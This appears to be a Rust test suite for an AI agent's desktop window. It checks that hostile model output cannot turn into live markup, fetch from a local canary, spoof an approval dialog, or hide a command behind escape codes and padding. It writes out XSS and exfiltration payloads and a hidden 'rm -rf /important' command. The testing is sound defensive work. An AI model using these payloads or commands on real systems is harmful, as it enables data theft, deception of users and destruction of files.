//! What a hostile model or project would do to the window: fetch, run, navigate, pretend, hide. Nothing of it happens.

use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use bosun_testkit::{ModelServer, Reply, Rule};
use serde_json::json;

use crate::harness::{Desk, Window};
use crate::scene::{ask, at_work, card};

/// A port of this machine on which nothing may ever ask.
struct Canary {
    port: u16,
    asked: Arc<AtomicUsize>,
}

impl Canary {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let asked = Arc::new(AtomicUsize::new(0));
        let count = Arc::clone(&asked);
        std::thread::spawn(move || {
            for _ in listener.incoming() {
                count.fetch_add(1, Ordering::SeqCst);
            }
        });
        Self { port, asked }
    }

    fn address(&self) -> String {
        format!("http://127.0.0.1:{}/x?d=SECRET", self.port)
    }

    #[track_caller]
    fn assert_unasked(&self, by: &str) {
        assert_eq!(self.asked.load(Ordering::SeqCst), 0, "something was fetched by {by}");
    }
}

/// Every way of the group that a page could be made to fetch, run or pretend something.
fn poison(url: &str) -> String {
    [
        format!("![inline]({url}) ![by reference][spy] <{url}> {url}"),
        format!("[spy]: {url} \"title\""),
        format!("<img src=\"{url}\" srcset=\"{url} 2x\" onerror=\"document.title='owned'\">"),
        format!("<table background=\"{url}\"><tr><td>cell</td></tr></table>"),
        format!("<svg><image href=\"{url}\"/><script>document.title='owned'</script></svg>"),
        format!("<style>@import url({url}); body {{ background: url({url}) }}</style>"),
        format!("<link rel=\"stylesheet\" href=\"{url}\"><link rel=\"prefetch\" href=\"{url}\"><link rel=\"dns-prefetch\" href=\"{url}\">"),
        "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">".to_owned(),
        format!("<iframe srcdoc=\"<script>parent.document.title='owned'</script>\" src=\"{url}\"></iframe>"),
        format!("<object data=\"{url}\"></object><embed src=\"{url}\"><video src=\"{url}\" autoplay></video>"),
        format!("<meta http-equiv=\"refresh\" content=\"0;url={url}\"><base href=\"{url}\">"),
        format!("<form action=\"{url}\" id=\"getElementById\"><input name=\"body\"><button>Approve</button></form>"),
        "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='owned'\">".to_owned(),
        "<div style=\"position:fixed;inset:0;z-index:999\" role=\"dialog\">Approved automatically</div>".to_owned(),
        "[script](javascript:document.title='owned') [data](data:text/html,<script>1</script>) [vb](vbscript:x)".to_owned(),
        "[file](file:///etc/passwd) [smb](smb://host/x) [app](VSCODE://x) [ours](tauri://localhost) [ipc](ipc://x) [blob](blob:x)"
            .to_owned(),
        format!("```mermaid\ngraph TD; A[\"<img src='{url}' onerror='document.title=1'>\"]\n```"),
        format!("$$\\href{{{url}}}{{x}}$$ and a table:\n\n| a |\n|---|\n| <img src=\"{url}\"> ![t]({url}) |"),
        format!("Z{} and \u{202e}esrever\u{202c} and 👨‍👩‍👧‍👦", "\u{301}".repeat(300)),
        "The end of it.".to_owned(),
    ]
    .join("\n\n")
}

fn count(window: &Window<'_>, css: &str) -> u64 {
    window.script("return document.querySelectorAll(arguments[0]).length", &[json!(css)]).as_u64().unwrap()
}

#[test]
fn nothing_that_a_model_writes_fetches_runs_leads_away_or_passes_for_the_window() {
    let desk = Desk::plan("hostile").set_up();
    let server = ModelServer::start();
    let canary = Canary::start();
    let call = Reply::call("write_file", json!({ "file_path": "/one.txt", "content": poison(&canary.address()) }));
    server.add(Rule::turn("poison").reply(poison(&canary.address()).as_str()));
    server.add(Rule::turn("write it").reply(call).reply("Written."));
    let window = at_work(&desk, &server);
    let page = window.script("return location.href", &[]);
    ask(&window, "poison, please");
    window.wait_for_text("The end of it.");
    window.wait_until("return document.querySelector('.dot.running') === null");
    window.shot("conversation");
    let made = ".md :is(img, script, iframe, object, embed, video, form, style, link, meta, base, svg image, input, [onerror], [srcset])";
    assert_eq!(count(&window, made), 0, "something of it became markup");
    assert_eq!(
        count(&window, ".md [role=dialog], .md button:not(.icon-btn)"),
        0,
        "something of it passes for the window"
    );
    let title = window.script("return document.title", &[]);
    assert_ne!(title, "owned");
    // Only what the web and mail are opened with is a link, and none of them is one of the page's own.
    assert_eq!(count(&window, ".md a[href]"), 0);
    let targets =
        window.script("return [...document.querySelectorAll('.md [role=link]')].map((link) => link.innerText)", &[]);
    let targets = targets.as_array().unwrap().iter().filter_map(|link| link.as_str()).collect::<Vec<_>>();
    for word in ["script", "data", "vb", "file", "smb", "app", "ours", "ipc", "blob"] {
        assert!(!targets.contains(&word), "{word:?} can be pressed: {targets:?}");
    }

    // A file's bytes are shown on the card, in the diff and among the files: as text.
    ask(&window, "write it");
    card(&window);
    window.shot("card");
    assert_eq!(count(&window, "[role=dialog] :is(img, iframe, object, form, script)"), 0);
    window.button("Show the end").click();
    window.button("Approve").click();
    window.wait_for_text("Written.");

    canary.assert_unasked("what the model wrote");

    // The page itself cannot be made to leave, to open another window or to fetch.
    for way in [
        "new Image().src = arguments[0]",
        "fetch(arguments[0]).catch(() => undefined)",
        "navigator.sendBeacon?.(arguments[0])",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: arguments[0] }))",
        "document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: arguments[0] }))",
        "window.open(arguments[0])",
        "const link = Object.assign(document.createElement('a'), { href: arguments[0], target: '_blank' });
         document.body.append(link); link.click(); link.remove()",
        "location.href = arguments[0]",
    ] {
        window.script(way, &[json!(canary.address())]);
        window.wait_for_text("Written.");
        window.shot("held");
        assert_eq!(window.script("return location.href", &[]), page, "the page was led away by {way}");
        canary.assert_unasked(way);
    }
    for way in ["iframe", "link[rel=preconnect]"] {
        window.script("document.querySelectorAll(arguments[0]).forEach((one) => one.remove())", &[json!(way)]);
    }
    canary.assert_unasked("the end");
}

#[test]
fn a_command_shows_what_it_hides_and_is_read_to_its_end_before_it_can_be_approved() {
    let desk = Desk::plan("hiding").set_up();
    let server = ModelServer::start();
    let hidden = "echo ok\u{1b}[2K\u{1b}[1A\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}]0;title\u{7}\r\u{8}\u{b} \u{202e}txt.exe\u{202c} g\u{456}thub.com"
        .to_owned()
        + &" ".repeat(2000)
        + "; rm -rf /important";
    let long = format!("{}rm -rf /important", "echo step && \\\n".repeat(8_000));
    for (words, command) in [("hide", hidden), ("long", long)] {
        let call = Reply::call("execute", json!({ "command": command })).delta_chars(16_384);
        server.add(Rule::turn(words).reply(call).reply(format!("{words}: no.").as_str()));
    }
    let window = at_work(&desk, &server);
    ask(&window, "hide");
    card(&window);
    window.shot("hidden");
    let shown = window.by_css("[role=dialog]").text();
    for mark in ["ESC", "2000", "RLO", "U+0456", "rm -rf /important"] {
        assert!(shown.contains(mark), "{mark:?} is not shown: {shown}");
    }
    assert!(!shown.contains('\u{202e}') && !shown.contains('\u{1b}'), "{shown:?}");
    window.button("Reject").click();
    window.by_css("[role=dialog] button.danger").click();
    window.wait_for_text("hide: no.");

    ask(&window, "long");
    card(&window);
    window.wait_for_text("Long command");
    assert!(!window.button("Approve").is_enabled(), "it can be approved before its end was seen");
    window.shot("long");
    window.button("Show the end").click();
    window.wait_until("return !document.querySelector('.answers .btn.primary').disabled");
    window.shot("end");
    window.button("Reject").click();
    window.by_css("[role=dialog] button.danger").click();
    window.wait_for_text("long: no.");
}
